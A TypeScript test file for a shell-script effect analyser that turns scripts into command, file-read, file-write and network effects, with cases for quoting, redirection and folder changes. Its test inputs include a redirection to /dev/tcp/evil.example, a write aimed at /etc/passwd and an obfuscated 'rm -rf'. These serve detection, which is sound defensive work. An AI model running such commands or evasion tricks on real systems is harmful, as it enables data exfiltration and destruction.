import { describe, expect, test } from "vitest";
import type { Effect } from "../base/effect.ts";
import { scriptEffects } from "./index.ts";

const CWD = "/ws";
const effectsOf = (script: string): Promise<readonly Effect[]> => scriptEffects(script, { cwd: CWD });
const command = (...argv: string[]): Effect => ({ kind: "command", sure: "open", argv, cwd: CWD });
const read = (path: string): Effect => ({ kind: "file.read", sure: "open", path });
const write = (path: string): Effect => ({ kind: "file.write", sure: "open", path });

describe("scriptEffects of what it understands", () => {
  test.each<[string, readonly Effect[]]>([
    ["", []],
    [" \n\t\n", []],
    ["# only a comment", []],
    ["#!/bin/sh\nls", [command("ls")]],
    ["npm test", [command("npm", "test")]],
    ["a; b\nc && d || e | f |& g", [command("a"), command("b"), command("c"), command("d"), command("e"), command("f"), command("g")]],
    ["a &&\n  b # why\n\n# more\nc;", [command("a"), command("b"), command("c")]],
    ["a \\\n  b", [command("a", "b")]],
    [`echo 'a b' "c 'd'" e\\ f "" '' g"h"'i'`, [command("echo", "a b", "c 'd'", "e f", "", "", "ghi")]],
    ["r''m \\-rf \"x\"", [command("rm", "-rf", "x")]],
    ["$'\\x72\\155' 'a;b' \"|\" \\& '$(x)' '`y`' \\$HOME", [command("rm", "a;b", "|", "&", "$(x)", "`y`", "$HOME")]],
    [
      'echo a=b PATH=c a#b HEAD~1 HEAD@{1} {} x! ^ % @ 100% a$ "b$"',
      [command("echo", "a=b", "PATH=c", "a#b", "HEAD~1", "HEAD@{1}", "{}", "x!", "^", "%", "@", "100%", "a$", "b$")],
    ],
    ["'if' x; \\time y", [command("if", "x"), command("time", "y"), expect.objectContaining({ kind: "unknown" }) as Effect]],
    ["[ -f x ] && echo ok", [command("[", "-f", "x", "]"), command("echo", "ok")]],
    ["bash -eu a.sh x; sh /b", [command("bash", "-eu", "a.sh", "x"), command("./a.sh", "x"), command("sh", "/b"), command("/b")]],
    ["grüße 'naïve ☕'", [command("grüße", "naïve ☕")]],
    ["command -v node; set -euo pipefail; hash", [command("command", "-v", "node"), command("set", "-euo", "pipefail"), command("hash")]],
    [
      "git switch -c new; git -C sub commit -c HEAD",
      [command("git", "switch", "-c", "new"), command("git", "-C", "sub", "commit", "-c", "HEAD")],
    ],
  ])("%j", async (script, effects) => {
    expect(await effectsOf(script)).toEqual(effects);
  });
});

describe("redirections", () => {
  test.each<[string, readonly Effect[]]>([
    ["a > f", [command("a"), write("/ws/f")]],
    ["a >> f >| g", [command("a"), write("/ws/f"), write("/ws/g")]],
    ["a 2>err b", [command("a", "b"), write("/ws/err")]],
    ["a 2 >err", [command("a", "2"), write("/ws/err")]],
    ["a2>f", [command("a2"), write("/ws/f")]],
    ["a &> f; b &>>/x/g", [command("a"), write("/ws/f"), command("b"), write("/x/g")]],
    ["a < in", [command("a"), read("/ws/in")]],
    ["a <> both", [command("a"), read("/ws/both"), write("/ws/both")]],
    ["> f", [write("/ws/f")]],
    ["a > './b c'", [command("a"), write("/ws/b c")]],
    ["a > ../x/../y", [command("a"), write("/ws/../x/../y")]],
    ["a > link/../y", [command("a"), write("/ws/link/../y")]],
    ["a 2>&1 >/dev/null", [command("a")]],
    ["a >&2 </dev/stdin 2>/dev/fd/1 >/dev/tty 3<&0", [command("a")]],
    ["a > /dev/fd/../../etc/passwd", [command("a"), write("/dev/fd/../../etc/passwd")]],
    ["a > /dev/nullx", [command("a"), write("/dev/nullx")]],
    ["a > /dev/tcp/evil.example/80", [command("a"), { kind: "network", sure: "open", host: "evil.example", port: 80 }]],
    ["a < b | c > d", [command("a"), read("/ws/b"), command("c"), write("/ws/d")]],
  ])("%j", async (script, effects) => {
    expect(await effectsOf(script)).toEqual(effects);
  });
});

describe("after a change of folder", () => {
  const at = (cwd: string, ...argv: string[]): Effect => ({ kind: "command", sure: "open", argv, cwd });
  test.each<[string, readonly Effect[]]>([
    ["cd sub && ./run > out", [command("cd", "sub"), at("/ws/sub", "./run"), write("/ws/sub/out")]],
    ["cd sub && cd .. && a > b", [command("cd", "sub"), at("/ws/sub", "cd", ".."), command("a"), write("/ws/b")]],
    ["cd /x && a > b", [command("cd", "/x"), at("/x", "a"), write("/x/b")]],
    ["cd sub; npm test > /abs", [command("cd", "sub"), at("/ws/sub", "npm", "test"), write("/abs")]],
    ["cd sub | a > b", [command("cd", "sub"), command("a"), write("/ws/b")]],
    ["cd", [command("cd")]],
  ])("%j is followed", async (script, effects) => {
    expect(await effectsOf(script)).toEqual(effects);
  });

  test.each([
    "cd sub; a > b",
    "cd sub\na < b",
    "cd sub || a > b",
    "x || cd sub && a > b",
    "cd sub; ./run",
    "cd sub && x; ./run",
    "cd && a",
    "cd - && a",
    "cd a b && c",
    "popd; a",
    "pushd; a",
    "cd -P sub && a",
    "cd sub; cd more && a > b",
  ])("%j cannot be told", async (script) => {
    expect(await effectsOf(script)).toMatchObject([{ kind: "unknown", reason: expect.stringContaining("cd") }]);
  });
});
